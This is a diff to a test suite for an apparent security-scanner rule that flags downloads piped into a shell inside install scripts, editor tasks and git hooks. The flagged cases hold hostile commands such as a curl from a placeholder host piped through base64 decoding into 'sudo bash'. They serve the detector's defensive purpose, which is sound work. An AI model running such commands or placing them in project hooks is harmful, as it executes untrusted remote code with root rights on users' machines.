@@ -10,6 +10,7 @@ ruleTest(rule, {
     { name: 'curl download without a shell', files: { 'package.json': '{"scripts":{"postinstall":"curl -fsSLo data.json https://example.com/data.json"}}' } },
     { name: 'folderOpen task that only installs', files: { '.vscode/tasks.json': tasks('npm install') } },
     { name: 'shell script with curl to a file, no exec', files: { 'package.json': '{"scripts":{"postinstall":"bash scripts/fetch.sh"}}', 'scripts/fetch.sh': 'curl -o out.json https://example.com/x.json\n' } },
+    { name: 'checksum of a download', files: { '.vscode/tasks.json': tasks('curl -sL https://x.example/a.tgz | sha256sum; curl -s https://x.example/v | node-semver') } },
     { name: 'piping a download into grep', files: { '.vscode/tasks.json': tasks('curl -s https://api.github.com/repos/a/b | grep tag_name') } },
   ],
   flagged: [
@@ -41,6 +42,11 @@ ruleTest(rule, {
         '.husky/helper.sh': 'echo ok\ncurl -s http://x.example/w | cmd\n',
       },
       findings: [{ line: 2, file: '.husky/helper.sh', evidence: 'curl -s http://x.example/w | cmd' }],
+    },
+    {
+      name: 'decoded on the way to the shell',
+      files: { '.vscode/tasks.json': tasks('curl -s http://x.example/p | base64 -d | sudo bash') },
+      findings: [{ line: 6, evidence: 'curl -s http://x.example/p | base64 -d | sudo bash' }],
     },
     {
       name: 'Dockerfile installer stays low',
